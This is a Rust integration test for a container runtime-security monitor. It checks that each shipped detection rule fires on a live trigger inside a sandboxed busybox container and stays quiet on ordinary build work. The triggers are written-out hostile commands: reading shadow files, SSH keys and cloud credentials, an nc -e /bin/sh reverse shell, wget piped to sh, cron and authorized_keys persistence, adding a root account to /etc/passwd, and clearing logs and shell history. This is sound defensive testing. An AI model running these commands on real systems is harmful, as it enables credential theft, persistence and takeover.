//! The shipped rules against real behaviour: one `monitor run` with the default rule set
//! (rules/*.yaml + rules/monitor.d), runc busybox containers with CRI annotations, and for each
//! rule a real trigger run inside a container. Then a fresh container running ordinary work
//! (a web server and its client, a shell-script test suite, a compile) must raise nothing,
//! runtime setup included. Prints a table rule -> fired / not fireable here (why).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use monitor_tests::containers::{have, skip_unless_tools};
use monitor_tests::harness::{MonitorProcess, skip_unless_root, workspace_root};
use monitor_tests::live::{
    LISTENING_SH, LiveContainer, Row, Shape, Verdict, build_helper, print_table, put,
};
use monitor_tests::prom::http_get;
use serde_json::Value;


/// Rules no trigger can reach on this host or with busybox, and why.
const NOT_FIREABLE: &[(&str, &str)] = &[(
    "Kernel module loaded",
    "CONFIG_MODULES is off: init_module/finit_module have no tracepoints here",
)];

struct Check {
    rule: &'static str,
    /// Substring of the alert's output that ties it to this trigger ("" = any from the container).
    marker: &'static str,
    label: &'static str,
}

const fn chk(rule: &'static str, marker: &'static str, label: &'static str) -> Check {
    Check {
        rule,
        marker,
        label,
    }
}

/// Names of the rules in rules/*.yaml (the Falco-loadable files).
fn shipped_rule_names() -> std::collections::BTreeSet<String> {
    let dir = workspace_root().join("rules");
    let mut names = std::collections::BTreeSet::new();
    for e in std::fs::read_dir(&dir).expect("rules/") {
        let p = e.expect("rules/ entry").path();
        if p.extension().is_some_and(|x| x == "yaml") {
            let text = std::fs::read_to_string(&p).expect("rule file");
            names.extend(text.lines().filter_map(|l| l.strip_prefix("- rule: ")).map(|n| n.trim().to_string()));
        }
    }
    assert!(names.len() >= 50, "{} rules in {}", names.len(), dir.display());
    names
}

fn alerts_from(seen: &[String], cid: &str) -> Vec<Value> {
    seen.iter()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["container"]["id"] == cid && v["rule"].is_string())
        .collect()
}

fn attack_rootfs(root: &Path, helper: Option<&Path>) -> anyhow::Result<()> {
    put(root, "etc/shadow", "root:$6$x$y:19000:0:99999:7:::\n")?;
    put(root, "etc/group", "root:x:0:\n")?;
    put(
        root,
        "root/.ssh/id_rsa",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n",
    )?;
    put(
        root,
        "var/run/secrets/kubernetes.io/serviceaccount/token",
        "eyJhbGciOi.x.y\n",
    )?;
    put(
        root,
        "root/.aws/credentials",
        "[default]\naws_access_key_id = AKIAEXAMPLE\n",
    )?;
    put(root, "var/run/docker.sock", "")?; // stand-in: a regular file at the socket's path
    put(root, "var/log/app.log", "line\n")?;
    put(root, "var/log/app2.log", "line\n")?;
    put(root, "var/log/old.log", "line\n")?;
    put(root, "root/.ash_history", "ls\n")?;
    put(root, "root/.bash_history", "ls\n")?;
    put(root, "www/index.html", "<h1>hi</h1>\n")?;
    put(root, "www/x.sh", "true\n")?;
    put(
        root,
        "www/cgi-bin/hello",
        "#!/bin/sh\necho Content-Type: text/plain\necho\necho hello\n",
    )?;
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join("www/cgi-bin/hello"),
        std::fs::Permissions::from_mode(0o755),
    )?;
    for d in ["etc/crontabs", "mnt", "usr", "lib", "lib64", "sbin", "opt"] {
        std::fs::create_dir_all(root.join(d))?;
    }
    if let Some(h) = helper {
        std::fs::copy(h, root.join("opt/helper"))?;
    }
    Ok(())
}

/// Host directories a compiler needs, bound read-only (the image has no toolchain of its own).
fn toolchain_binds() -> Vec<(PathBuf, &'static str)> {
    vec![
        (PathBuf::from("/usr"), "/usr"),
        (PathBuf::from("/lib"), "/lib"),
        (PathBuf::from("/lib64"), "/lib64"),
    ]
}

#[test]
fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
    if skip_unless_root() {
        return;
    }
    if skip_unless_tools(&["runc", "nsenter", "python3"]) {
        return;
    }
    let started = Instant::now();
    let work = std::env::temp_dir().join(format!("monitor-live-{}", std::process::id()));
    std::fs::create_dir_all(&work).unwrap();
    let helper = work.join("helper");
    let helper_ok = match build_helper(&helper) {
        Ok(()) => true,
        Err(e) => {
            eprintln!("helper not built ({e:#}): memfd, ptrace and bpf triggers are skipped");
            false
        }
    };
    let have_gcc = have("gcc");
    // Deploy-time tuning for the CI builder image: compiling (and the linker writing an
    // executable) is its job. Loaded after the shipped rules, as an operator would.
    let tuning = work.join("ci-builder-tuning.yaml");
    std::fs::write(
        &tuning,
        "- macro: user_expected_compiler_run_in_container\n  condition: (container.image.repository = registry.example/ci/builder)\n  override:\n    condition: replace\n\
         - macro: user_expected_file_made_executable_in_container\n  condition: (container.image.repository = registry.example/ci/builder and fd.name startswith /work/build/)\n  override:\n    condition: replace\n\
         - macro: user_expected_executable_file_created_in_container\n  condition: (container.image.repository = registry.example/ci/builder and fd.name startswith /work/build/)\n  override:\n    condition: replace\n",
    )
    .unwrap();

    let rules = workspace_root().join("rules");
    let mut mon = MonitorProcess::spawn(
        &[
            "run",
            "--metrics-address",
            "127.0.0.1:0",
            "--no-rate-limit",
            "--containers-only",
            "--rules",
            rules.to_str().unwrap(),
            "--rules",
            tuning.to_str().unwrap(),
        ],
        Some("Monitor ready"),
    )
    .expect("monitor run starts");
    let addr = mon.metrics_address().expect("metrics address");

    // ---- attack container --------------------------------------------------------------
    let vda = std::fs::metadata("/dev/vda").ok().map(|m| {
        use std::os::unix::fs::MetadataExt;
        let r = m.rdev();
        (libc::major(r), libc::minor(r))
    });
    let vda_node = vda.map_or_else(String::new, |(ma, mi)| {
        format!("mknod /dev/vda b {ma} {mi} 2>/dev/null; ")
    });
    let shape = Shape {
        extra_caps: vec![
            "CAP_SYS_ADMIN",
            "CAP_SYS_CHROOT",
            "CAP_NET_RAW",
            "CAP_NET_ADMIN",
            "CAP_SYS_PTRACE",
            "CAP_SETUID",
            "CAP_SETGID",
            "CAP_DAC_OVERRIDE",
            "CAP_FOWNER",
            "CAP_CHOWN",
            "CAP_MKNOD",
        ],
        writable_paths: vec!["/proc/sys"],
        ro_binds: if have_gcc { toolchain_binds() } else { Vec::new() },
        cwd: None,
        exec_shm: true,
        overlay: true,
        devices: vda
            .map(|(ma, mi)| {
                vec![serde_json::json!({"allow": true, "type": "b", "major": ma, "minor": mi, "access": "rm"})]
            })
            .unwrap_or_default(),
    };
    let a = LiveContainer::start("attack-0", "registry.example/shop/web:1.4.2", &shape, |r| {
        attack_rootfs(r, helper_ok.then_some(helper.as_path()))
    })
    .expect("attack container");
    // Addresses the network triggers reach, on the container's loopback (host side).
    let pid = a.init_pid().unwrap().to_string();
    for ip in ["169.254.169.254/32", "203.0.113.7/32"] {
        let st = std::process::Command::new("nsenter")
            .args(["-t", &pid, "-n", "ip", "addr", "add", ip, "dev", "lo"])
            .status()
            .unwrap();
        assert!(st.success(), "ip addr add {ip}");
    }

    let mut checks: Vec<Check> = Vec::new();
    let mut not_fireable: Vec<(&str, &'static str)> = NOT_FIREABLE.to_vec();
    let sh = |s: &str| {
        let _ = a.sh(s).expect("runc exec");
    };
    let ex = |args: &[&str]| {
        let _ = a.exec(args).expect("runc exec");
    };

    // credentials
    ex(&["cat", "/etc/shadow"]);
    ex(&["cat", "/etc/../etc/shadow"]);
    ex(&["busybox", "cat", "/etc/shadow"]);
    checks.push(chk(
        "Read of shadow password database",
        "command=cat /etc/shadow",
        "cat /etc/shadow",
    ));
    checks.push(chk(
        "Read of shadow password database",
        "/etc/../etc/shadow",
        "held-out /etc/../etc/shadow detour",
    ));
    checks.push(chk(
        "Read of shadow password database",
        "command=busybox cat",
        "held-out `busybox cat` applet form",
    ));
    ex(&["cat", "/root/.ssh/id_rsa"]);
    checks.push(chk("Read of SSH private key", "id_rsa", "cat id_rsa"));
    // A second name for the inode: its later reads open a path the read rules do not watch.
    ex(&["ln", "/etc/shadow", "/tmp/shadow-copy"]);
    checks.push(chk(
        "Hard link to credential file",
        "shadow-copy",
        "held-out ln /etc/shadow (hard link)",
    ));
    ex(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    checks.push(chk(
        "Read of Kubernetes service account token",
        "token",
        "cat token",
    ));
    ex(&["cat", "/root/.aws/credentials"]);
    checks.push(chk(
        "Read of cloud or cluster credentials file",
        ".aws/credentials",
        "cat ~/.aws/credentials",
    ));
    ex(&["grep", "-r", "BEGIN RSA PRIVATE", "/root"]);
    checks.push(chk(
        "Search for private keys or passwords",
        "BEGIN RSA PRIVATE",
        "grep -r BEGIN RSA PRIVATE",
    ));
    ex(&["cat", "/proc/1/environ"]);
    checks.push(chk(
        "Read of another process environment",
        "/proc/1/environ",
        "cat /proc/1/environ",
    ));
    sh("exec 3</proc/1/mem");
    checks.push(chk(
        "Process memory read through procfs",
        "/proc/1/mem",
        "open /proc/1/mem",
    ));

    // immutability
    let _ = a
        .exec_with_tty(&["sh", "-c", "true"])
        .expect("runc exec -t");
    checks.push(chk(
        "Shell with terminal started in container",
        "",
        "runc exec -t sh",
    ));
    // httpd exec'd directly: started from ash it would be a /proc/self/exe re-exec whose comm
    // (`exe`) the process table keeps for its children, so the CGI's parent would not read
    // as httpd (see the report: ancestors lack argv[0] / later comm changes).
    ex(&["httpd", "-p", "8080", "-h", "/www"]);
    sh("wget -q -O- http://127.0.0.1:8080/cgi-bin/hello >/dev/null");
    checks.push(chk(
        "Shell spawned by a service process in container",
        "parent=httpd",
        "httpd CGI runs /bin/sh",
    ));
    ex(&["dpkg", "-l"]);
    checks.push(chk("Package manager run in container", "dpkg", "dpkg -l"));
    sh("cp /bin/busybox /tmp/dropper && /tmp/dropper true");
    checks.push(chk(
        "Executable run from temporary directory",
        "/tmp/dropper",
        "/tmp/dropper",
    ));
    checks.push(chk(
        "Executable file created in container",
        "/tmp/dropper",
        "cp busybox /tmp/dropper",
    ));
    // A script's executable is its interpreter: the rule matches the file execve was given.
    sh("printf '#!/bin/sh\\ntrue\\n' > /tmp/stage.sh && chmod 755 /tmp/stage.sh && /tmp/stage.sh");
    checks.push(chk(
        "Executable run from temporary directory",
        "stage.sh",
        "held-out #! script in /tmp",
    ));
    // Refused by the kernel (no execute bit): the dropper is still the news.
    sh("cp /bin/busybox /tmp/nox && chmod 644 /tmp/nox; /tmp/nox true");
    checks.push(chk(
        "Executable run from temporary directory",
        "file=/tmp/nox res=EACCES",
        "held-out exec refused (EACCES) of a file dropped in /tmp",
    ));
    ex(&["env", "LD_PRELOAD=/tmp/.x/libhook.so", "/bin/busybox", "true"]);
    checks.push(chk(
        "Library preloaded through environment in container",
        "ld_preload=/tmp/.x/libhook.so",
        "env LD_PRELOAD=/tmp/.x/libhook.so",
    ));
    sh("cp /bin/busybox /dev/shm/shmx && /dev/shm/shmx true");
    checks.push(chk(
        "Executable run from temporary directory",
        "/dev/shm/shmx",
        "/dev/shm/shmx",
    ));
    sh("cp /bin/busybox /opt/drift && /opt/drift true");
    checks.push(chk(
        "Drift executable from container upper layer",
        "/opt/drift",
        "busybox copied into the overlay upper layer, run",
    ));
    if helper_ok {
        ex(&["/opt/helper", "memfd"]);
        checks.push(chk(
            "Fileless execution from memfd",
            "",
            "memfd_create + fexecve",
        ));
    } else {
        not_fireable.push((
            "Fileless execution from memfd",
            "no static helper (gcc -static failed)",
        ));
    }
    sh("touch /tmp/s1 && chmod +x /tmp/s1");
    checks.push(chk(
        "File made executable in container",
        "/tmp/s1",
        "chmod +x",
    ));
    if have_gcc {
        ex(&["gcc", "--version"]);
        checks.push(chk(
            "Compiler run in container",
            "gcc",
            "gcc (host toolchain bound read-only)",
        ));
    } else {
        not_fireable.push(("Compiler run in container", "no host gcc to bind in"));
    }

    // network
    sh("nc -w 1 169.254.169.254 80 </dev/null");
    checks.push(chk(
        "Cloud metadata service contacted from container",
        "169.254.169.254",
        "connect 169.254.169.254:80",
    ));
    sh(&format!(
        "{LISTENING_SH}nc -l -p 4445 >/dev/null </dev/null & listening 115D; nc 127.0.0.1 4445 -e /bin/sh; wait"
    ));
    checks.push(chk("Reverse shell", "", "nc -e /bin/sh"));
    checks.push(chk(
        "Standard stream redirected to network in container",
        "",
        "nc dup2s the socket",
    ));
    checks.push(chk(
        "Network tool run in container",
        "127.0.0.1 4445",
        "held-out nc applet via /proc/self/exe from ash",
    ));
    checks.push(chk(
        "Unexpected listening port in container",
        "",
        "nc -l -p 4445",
    ));
    sh("cp /bin/busybox /tmp/busybox-x && /tmp/busybox-x nc -w 1 127.0.0.1 4448 </dev/null");
    checks.push(chk(
        "Network tool run in container",
        "nc -w 1 127.0.0.1 4448",
        "held-out renamed busybox copy running nc",
    ));
    sh(&format!(
        "{LISTENING_SH}nc -l -p 4446 >/dev/null </dev/null & listening 115E; nc 127.0.0.1 4446 -e /bin/awk; wait"
    ));
    checks.push(chk(
        "Interpreter with network standard I/O",
        "awk",
        "nc -e awk",
    ));
    ex(&["udhcpc", "-i", "lo", "-n", "-q", "-t", "1", "-T", "1"]);
    checks.push(chk(
        "Raw or packet socket created in container",
        "udhcpc",
        "udhcpc packet socket",
    ));
    ex(&[
        "/bin/echo",
        "-o",
        "stratum+tcp://pool.example.com:3333",
        "--donate-level",
        "1",
    ]);
    checks.push(chk(
        "Crypto miner started with stratum URL",
        "stratum+tcp",
        "stratum URL in argv",
    ));
    sh(&format!(
        "{LISTENING_SH}nc -l -p 3333 >/dev/null </dev/null & listening 0D05; nc -w 1 203.0.113.7 3333 </dev/null; kill %1 2>/dev/null; wait",
    ));
    checks.push(chk(
        "Connection to mining pool port",
        "203.0.113.7",
        "connect 203.0.113.7:3333",
    ));
    checks.push(chk(
        "Egress to unexpected port from container",
        "203.0.113.7",
        "connect 203.0.113.7:3333",
    ));
    sh("wget -q -O- http://127.0.0.1:8080/x.sh | sh");
    checks.push(chk("Download tool piped to shell", "x.sh", "wget | sh"));

    // persistence
    sh("echo '* * * * * /tmp/x' > /etc/crontabs/root");
    checks.push(chk(
        "Cron job created or modified",
        "crontabs",
        "crontab file",
    ));
    sh("mkdir -p /root/.ssh && echo k >> /root/.ssh/authorized_keys");
    checks.push(chk(
        "SSH authorized_keys modified",
        "authorized_keys",
        "append",
    ));
    sh("echo k > /tmp/ak && mv /tmp/ak /root/.ssh/authorized_keys");
    checks.push(chk(
        "SSH authorized_keys modified",
        "mv /tmp/ak",
        "held-out rename over it",
    ));
    sh("echo /tmp/x.so > /etc/ld.so.preload");
    checks.push(chk(
        "Dynamic loader preload configured",
        "echo /tmp/x.so",
        "write",
    ));
    sh("rm /etc/ld.so.preload && ln -s /tmp/x.so /etc/ld.so.preload");
    checks.push(chk(
        "Dynamic loader preload configured",
        "ln -s /tmp/x.so",
        "held-out symlink",
    ));
    sh("echo x >> /root/.profile");
    checks.push(chk("Shell profile modified", ".profile", "~/.profile"));
    sh("mkdir -p /etc/systemd/system && echo > /etc/systemd/system/evil.service");
    checks.push(chk(
        "Systemd unit created or modified",
        "evil.service",
        "unit file",
    ));
    sh("echo /tmp >> /etc/ld.so.conf");
    checks.push(chk(
        "Dynamic loader configuration modified",
        "ld.so.conf",
        "ld.so.conf",
    ));
    sh("echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd");
    checks.push(chk(
        "User database modified",
        "/etc/passwd",
        "append to /etc/passwd",
    ));
    sh("cp /etc/passwd /tmp/pw && mv /tmp/pw /etc/passwd");
    checks.push(chk(
        "User database modified",
        "mv /tmp/pw",
        "held-out rename over /etc/passwd",
    ));
    sh("echo x >> /etc/modules");
    checks.push(chk(
        "Kernel module autoload configured",
        "/etc/modules",
        "/etc/modules",
    ));

    if have_gcc {
        // The host's OpenSSH client and systemctl, from the /usr bound in for the compiler.
        ex(&[
            "ssh",
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=1",
            "-p",
            "22",
            "root@203.0.113.7",
            "true",
        ]);
        checks.push(chk(
            "Outbound SSH from container",
            "203.0.113.7",
            "ssh to 203.0.113.7:22",
        ));
        ex(&["systemctl", "stop", "auditd"]);
        checks.push(chk(
            "Security tool or audit disabled",
            "stop auditd",
            "systemctl stop auditd",
        ));
    } else {
        not_fireable.push((
            "Outbound SSH from container",
            "no ssh client in busybox and no host /usr",
        ));
        not_fireable.push((
            "Security tool or audit disabled",
            "no systemctl in busybox and no host /usr",
        ));
    }

    // privilege escalation
    sh("touch /tmp/rootsh && chmod u+s /tmp/rootsh");
    checks.push(chk("Setuid or setgid bit set", "rootsh", "chmod u+s"));
    ex(&["start-stop-daemon", "-S", "-c", "root", "-x", "/bin/true"]);
    checks.push(chk(
        "Process became root through setuid",
        "-c root",
        "start-stop-daemon -c root",
    ));
    if helper_ok {
        ex(&["/opt/helper", "ptrace"]);
        checks.push(chk(
            "Ptrace attach to another process",
            "helper",
            "PTRACE_ATTACH",
        ));
        ex(&["/opt/helper", "bpf"]);
        checks.push(chk(
            "BPF program or map from container",
            "helper",
            "BPF_MAP_CREATE",
        ));
        // A shadow read submitted through io_uring never passes the open tracepoints.
        ex(&["/opt/helper", "uring", "open", "/etc/shadow"]);
        checks.push(chk(
            "Read of shadow password database",
            "evt_type=io_uring_submit",
            "held-out io_uring OPENAT of /etc/shadow",
        ));
        ex(&["/opt/helper", "rawsock"]);
        checks.push(chk(
            "Raw or packet socket created in container",
            "res=EPERM",
            "held-out raw socket refused without CAP_NET_RAW",
        ));
        sh("cp /bin/busybox /tmp/capme && /opt/helper setcap /tmp/capme");
        checks.push(chk(
            "File capabilities set in container",
            "caps=CAP_SETUID",
            "setxattr security.capability (cap_setuid+ep)",
        ));
    } else {
        not_fireable.push(("Ptrace attach to another process", "no static helper"));
        not_fireable.push(("BPF program or map from container", "no static helper"));
        not_fireable.push(("File capabilities set in container", "no static helper"));
    }
    ex(&["find", "/", "-xdev", "-perm", "-4000"]);
    checks.push(chk(
        "Search for setuid programs in container",
        "-perm -4000",
        "busybox find -perm -4000",
    ));
    sh("mount -t tmpfs none /mnt");
    checks.push(chk("Mount in container", "tmpfs", "mount -t tmpfs"));
    sh("nsenter -t 1 -m -- true");
    checks.push(chk(
        "Namespace entered from container",
        "-t 1 -m",
        "nsenter -t 1 -m",
    ));
    checks.push(chk(
        "Namespace tool run",
        "-t 1 -m",
        "held-out nsenter applet via /proc/self/exe",
    ));
    sh("unshare -m -- true");
    checks.push(chk(
        "New namespaces created in container",
        "-m -- true",
        "unshare -m",
    ));
    checks.push(chk("Namespace tool run", "-m -- true", "unshare"));
    sh(
        "mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && true >> /tmp/cg/notify_on_release",
    );
    checks.push(chk(
        "Cgroup release_agent written",
        "notify_on_release",
        "cgroup v1 mount + open for write",
    ));
    sh("true >> /proc/sys/kernel/core_pattern");
    checks.push(chk(
        "Kernel helper path written",
        "core_pattern",
        "open core_pattern for write (nothing written)",
    ));
    // Opened for append and nothing written: harmless whether the runtime's read-only bind
    // refuses it or not.
    sh("true >> /proc/sysrq-trigger");
    checks.push(chk(
        "Host kernel control file written from container",
        "sysrq-trigger",
        "open /proc/sysrq-trigger for write (nothing written)",
    ));
    // Opened for append and nothing written: safe whether sysfs lets it through or not.
    sh("true >> /sys/kernel/uevent_helper");
    checks.push(chk(
        "Kernel helper path written",
        "uevent_helper",
        "held-out uevent_helper open for write (refused or not)",
    ));
    ex(&["cat", "/var/run/docker.sock"]);
    checks.push(chk(
        "Container runtime socket accessed from container",
        "docker.sock",
        "open of the socket path",
    ));
    // mknod succeeds, but opening the node is refused (EPERM) by runc 1.1's device cgroup
    // even with an allow rule here; the rule wants a successful open (an access, not an
    // attempt), so it is listed instead of asserted.
    sh(&format!(
        "{vda_node}dd if=/dev/vda of=/dev/null bs=512 count=0"
    ));
    not_fireable.push((
        "Raw disk device opened in container",
        "device cgroup refuses the open (EPERM) under runc 1.1 here; the rule needs a successful open",
    ));

    // tampering
    sh("echo hi > /etc/motd");
    checks.push(chk("Write below etc", "motd", "/etc/motd"));
    sh("cp /bin/busybox /sbin/implant");
    checks.push(chk(
        "Write below binary directories",
        "/sbin/implant",
        "cp into /sbin",
    ));
    sh("echo x > /tmp/tool && mv /tmp/tool /bin/tool");
    checks.push(chk(
        "Write below binary directories",
        "mv /tmp/tool",
        "held-out rename into /bin",
    ));
    sh("echo x > /root/notes.txt");
    checks.push(chk("Write below root home", "notes.txt", "/root/notes.txt"));
    sh(": > /var/log/app.log");
    checks.push(chk("Log file truncated", "app.log", "O_TRUNC"));
    ex(&["truncate", "-s", "0", "/var/log/app2.log"]);
    checks.push(chk("Log file truncated", "app2.log", "held-out truncate()"));
    ex(&["rm", "/var/log/old.log"]);
    checks.push(chk("Log file deleted", "old.log", "rm"));
    if helper_ok {
        // Removals and renames submitted through io_uring never pass their syscalls.
        sh("echo x > /var/log/ring.log");
        ex(&["/opt/helper", "uring", "unlink", "/var/log/ring.log"]);
        checks.push(chk(
            "Log file deleted",
            "file=/var/log/ring.log",
            "held-out io_uring UNLINKAT",
        ));
        sh("cp /etc/passwd /tmp/pw2");
        ex(&["/opt/helper", "uring", "rename", "/tmp/pw2", "/etc/passwd"]);
        checks.push(chk(
            "User database modified",
            "evt_type=io_uring_submit",
            "held-out io_uring RENAMEAT over /etc/passwd",
        ));
    }
    sh(": > /root/.ash_history");
    checks.push(chk("Shell history cleared", ".ash_history", "truncate"));
    ex(&["ln", "-sf", "/dev/null", "/root/.bash_history"]);
    checks.push(chk(
        "Shell history cleared",
        "ln -sf",
        "held-out ln -sf /dev/null",
    ));
    sh("echo x > /tmp/junk && shred /tmp/junk");
    checks.push(chk(
        "Bulk data destruction tool run",
        "/tmp/junk",
        "held-out shred applet via /proc/self/exe",
    ));

    // ---- verdicts ------------------------------------------------------------------------
    let cid = a.short_id().to_string();
    // One shared window for every alert still in flight. It only runs out on a miss; a
    // debug-build daemon on a loaded 2-core CI machine has been seen to lag by seconds.
    let waiting = Instant::now();
    let deadline = waiting + Duration::from_secs(60);
    let mut results: Vec<(String, Option<String>)> = Vec::new();
    let mut reported_late = false;
    for c in &checks {
        let left = deadline
            .saturating_duration_since(Instant::now())
            .max(Duration::from_millis(200));
        let hit = mon.wait_for(left, |v| {
            v["rule"] == c.rule
                && v["container"]["id"] == cid.as_str()
                && v["output"].as_str().is_some_and(|o| o.contains(c.marker))
        });
        if hit.is_some() && !reported_late && waiting.elapsed() > Duration::from_secs(5) {
            reported_late = true;
            eprintln!(
                "late alert {:?}: {:.1} s after the triggers",
                c.label,
                waiting.elapsed().as_secs_f64()
            );
        }
        if hit.is_none() {
            // Diagnostics for a miss: what this rule did say, and whether the daemon reported
            // dropping events (its overload alert).
            for v in mon.seen.iter().filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok()) {
                if v["rule"] == c.rule || v["rule"].as_str().is_some_and(|r| r.contains("event drop")) {
                    eprintln!("miss {:?}: seen {} | {}", c.label, v["container"]["id"], v["output"]);
                }
            }
        }
        results.push((c.rule.to_string(), hit.map(|_| c.label.to_string())));
    }
    // Where events could have been lost or left unattributed on the way to the rules: printed
    // when a trigger missed or ordinary work alerted.
    let diagnose = || {
        let m = http_get(&format!("http://{addr}/metrics")).unwrap_or_default();
        for l in m.lines().filter(|l| {
            !l.starts_with('#')
                && !l.ends_with(" 0")
                && ["dropped", "decode_errors", "evictions", "attribution_misses", "proctable"]
                    .iter()
                    .any(|k| l.contains(k))
        }) {
            eprintln!("diagnostics: {l}");
        }
    };
    if results.iter().any(|(_, hit)| hit.is_none()) {
        diagnose();
    }

    // ---- benign container ----------------------------------------------------------------
    let bshape = Shape {
        ro_binds: if have_gcc {
            toolchain_binds()
        } else {
            Vec::new()
        },
        cwd: Some("/work"),
        ..Shape::default()
    };
    let b = LiveContainer::start("builder-0", "registry.example/ci/builder:2.0", &bshape, |r| {
        put(r, "www/index.html", "<h1>ok</h1>\n")?;
        put(r, "www/data.json", "{\"ok\": true}\n")?;
        put(
            r,
            "work/hello.c",
            "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n",
        )?;
        put(
            r,
            "work/test.sh",
            "set -e\nmkdir -p /tmp/t build\nfor i in 1 2 3 4 5; do echo \"case $i\" > /tmp/t/in.$i; done\n\
             for f in /tmp/t/in.*; do sed 's/case/ok/' \"$f\" > \"$f.out\"; grep -q ok \"$f.out\"; done\n\
             cat /tmp/t/*.out | sort | uniq > build/report.txt\ncp build/report.txt build/report.bak\n\
             wc -l build/report.txt\nln -s report.txt build/latest\nrm -rf /tmp/t build/latest build/report.bak\n\
             touch build/stamp && rm build/stamp\necho PASS\n",
        )?;
        for d in ["usr", "lib", "lib64", "work/build"] {
            std::fs::create_dir_all(r.join(d))?;
        }
        Ok(())
    })
    .expect("benign container");
    let bid = b.short_id().to_string();
    let out = b.sh("httpd -p 8080 -h /www && for i in $(seq 1 20); do wget -q -O /dev/null http://127.0.0.1:8080/index.html && wget -q -O /dev/null http://127.0.0.1:8080/data.json; done; echo served").unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("served"),
        "{out:?}"
    );
    let out = b.exec(&["sh", "test.sh"]).unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("PASS"),
        "test suite: {out:?}"
    );
    if have_gcc {
        let out = b
            .sh("gcc -O1 -o build/hello hello.c && ./build/hello")
            .unwrap();
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("hello"),
            "compile: {out:?}"
        );
    }
    // Give the pipeline time to deliver anything the benign work raised.
    let _ = mon.wait_for(Duration::from_secs(3), |v| {
        v["container"]["id"] == bid.as_str() && v["rule"] == "<never>"
    });

    // ---- report --------------------------------------------------------------------------
    let mut by_rule: BTreeMap<String, Vec<Option<String>>> = BTreeMap::new();
    for (r, v) in &results {
        by_rule.entry(r.clone()).or_default().push(v.clone());
    }
    let mut rows = Vec::new();
    for (r, vs) in &by_rule {
        let labels: Vec<String> = checks
            .iter()
            .filter(|c| c.rule == r)
            .zip(vs)
            .map(|(c, v)| {
                if v.is_some() {
                    c.label.to_string()
                } else {
                    format!("MISSED: {}", c.label)
                }
            })
            .collect();
        let verdict = if vs.iter().all(Option::is_some) {
            Verdict::Fired(labels.join("; "))
        } else {
            Verdict::Missed(labels.join("; "))
        };
        rows.push(Row {
            rule: r.clone(),
            verdict,
        });
    }
    for (r, why) in &not_fireable {
        rows.push(Row {
            rule: r.to_string(),
            verdict: Verdict::NotFireable(why),
        });
    }
    print_table(&rows);
    if let Ok(dump) = std::env::var("MONITOR_LIVE_DUMP") {
        let _ = std::fs::write(dump, mon.seen.join("\n"));
    }

    let benign = alerts_from(&mon.seen, &bid);
    let (runtime, workload): (Vec<&Value>, Vec<&Value>) = benign.iter().partition(|v| {
        v["output"]
            .as_str()
            .is_some_and(|o| o.contains("process=runc:["))
    });
    eprintln!(
        "\nbenign container {bid}: {} workload alerts, {} runtime-setup alerts",
        workload.len(),
        runtime.len()
    );
    for v in workload.iter().chain(runtime.iter().take(3)) {
        eprintln!("  {} | {}", v["rule"], v["output"].as_str().unwrap_or(""));
    }
    if !workload.is_empty() || !runtime.is_empty() {
        diagnose();
    }
    let attack_runtime = alerts_from(&mon.seen, &cid)
        .into_iter()
        .filter(|v| {
            v["output"]
                .as_str()
                .is_some_and(|o| o.contains("process=runc:["))
        })
        .count();
    eprintln!("attack container {cid}: {attack_runtime} runtime-setup alerts");
    eprintln!("total {:.1} s", started.elapsed().as_secs_f64());

    let missed: Vec<&Row> = rows
        .iter()
        .filter(|r| matches!(r.verdict, Verdict::Missed(_)))
        .collect();
    assert!(
        missed.is_empty(),
        "{} rules did not fire on their live trigger",
        missed.len()
    );
    // Every rule of the Falco-loadable files has a live trigger or a reason it cannot fire here
    // (monitor.d's runtime-only rules are exercised by the side_doors tests).
    let shipped = shipped_rule_names();
    let table: std::collections::BTreeSet<String> = rows.iter().map(|r| r.rule.clone()).collect();
    let untested: Vec<&String> = shipped.iter().filter(|r| !table.contains(*r)).collect();
    assert!(untested.is_empty(), "shipped rules without a live trigger: {untested:?}");
    assert!(workload.is_empty(), "ordinary work raised alerts");
    // The runtime's own setup (runc init's unshare/setns/mount/setuid) is not the workload's:
    // proc.is_container_runtime keeps it quiet, also across runc's fd re-exec of itself and
    // under --containers-only (the kernel lets the host-side runtime exec through).
    assert!(runtime.is_empty(), "runtime setup raised alerts");
    assert_eq!(attack_runtime, 0, "runtime setup raised alerts in the attack container");
    drop(a);
    drop(b);
    let _ = std::fs::remove_dir_all(&work);
    let status = mon.stop().expect("stop");
    assert!(status.success(), "monitor exited with {status}");
}
